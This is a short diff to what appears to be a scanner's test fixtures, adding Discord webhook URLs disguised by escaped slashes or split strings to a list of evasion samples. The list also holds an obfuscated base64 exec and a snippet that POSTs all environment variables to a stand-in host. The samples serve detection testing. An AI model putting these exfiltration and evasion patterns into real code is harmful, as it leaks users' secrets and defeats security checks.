@@ -108,6 +108,8 @@ EVASIONS = (
     "import base64\nrun = globals()['ex' 'ec']\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
     "import os\nfrom http import client\nc = client.HTTPSConnection('x.invalid')\n"
     "c.request('POST', '/', body=str(os.environ))\n",
+    "HOOK = 'https://discord.com\\x2fapi\\x2fwebhooks/1/abcdef'\n",
+    "HOOK = ('https://discord.com/api/web'\n        'hooks/1/abcdef')\n",
 )
 """Shapes written to slip past token checks (aliases, list-form commands, names by string,
 runners passed by name, fullwidth identifiers, escaped or split literals)."""
